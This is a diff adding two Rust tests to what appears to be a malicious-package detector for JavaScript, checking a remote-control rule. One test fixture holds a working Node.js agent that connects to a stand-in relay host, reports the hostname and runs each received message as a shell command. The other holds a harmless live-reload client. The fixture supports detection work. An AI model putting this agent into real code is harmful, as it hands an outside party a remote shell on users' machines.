@@ -156,6 +156,34 @@ module.exports = s;
     assert_eq!(strongest(&fixture, "DSCA804"), None);
 }
 
+#[test]
+fn a_websocket_agent_that_runs_the_messages_it_gets_is_remote_control() {
+    let code = r#"const WebSocket = require('ws');
+const { exec } = require('child_process');
+const sock = new WebSocket('wss://relay-sync.example/agent');
+sock.on('open', () => sock.send(JSON.stringify({ id: require('os').hostname() })));
+sock.on('message', (m) => exec(m.toString(), (e, out) => sock.send(String(out))));
+"#;
+    let fixture = with_main(&[("index.js", code)]);
+    assert_eq!(strongest(&fixture, "DSCA804"), Some(Severity::Critical));
+}
+
+#[test]
+fn a_websocket_client_that_reloads_on_a_message_is_no_remote_control() {
+    // A live-reload client: the message picks what to do, it is never run.
+    let code = r#"const WebSocket = require('ws');
+const { spawnSync } = require('child_process');
+const sock = new WebSocket('ws://localhost:35729/livereload');
+sock.on('message', (m) => {
+  const event = JSON.parse(m.toString());
+  if (event.command === 'reload') spawnSync('npm', ['run', 'build'], { stdio: 'inherit' });
+});
+"#;
+    let fixture = with_main(&[("index.js", code)]);
+    assert_eq!(strongest(&fixture, "DSCA804"), None);
+    assert_eq!(strongest(&fixture, "DSCA802"), None);
+}
+
 // A detached child of a hook runs at install time too.
 
 #[test]
